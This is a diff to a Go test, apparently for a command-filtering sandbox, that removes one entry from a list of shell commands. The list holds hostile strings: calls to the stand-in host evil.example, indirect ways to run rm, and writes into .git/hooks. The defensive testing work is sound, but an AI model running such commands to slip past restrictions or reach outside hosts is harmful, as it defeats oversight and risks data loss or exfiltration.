@@ -147,7 +147,7 @@ func TestFloorNet(t *testing.T) {
 		"psql -h evil.example", "docker pull evil.example/x", "kcat -b evil.example:9092", "OLLAMA_HOST=evil.example ollama list",
 		"rclone copy x :sftp,host=evil.example:y", "vegeta attack -targets <(echo GET http://evil.example)", "gh api https://evil.example/x",
 		"cp /bin/rm d/x && run-parts d", "BORG_PASSCOMMAND='rm x' borg list r", "transmission-cli -f /bin/rm x.torrent",
-		"nmap -oG.git/hooks/z h", "cscope -bf.git/hooks/z", "nginx -p .git/hooks", "helm --repository-config .git/hooks/z repo add x h",
+		"nmap -oG.git/hooks/z h", "cscope -bf.git/hooks/z", "helm --repository-config .git/hooks/z repo add x h",
 		"python3 $X", "CARGO_TARGET_X_LINKER=./z-gcc cargo build", "sudo -k <<< 'rm x' sh",
 		"parallel '{1} {2}' ::: rm ::: x", "qemu-system-x86_64 -monitor 'exec:rm x'",
 		"zsh -c 'chpwd(){ rm x; }; cd /'", "bmake -V '${:!rm x!}'",
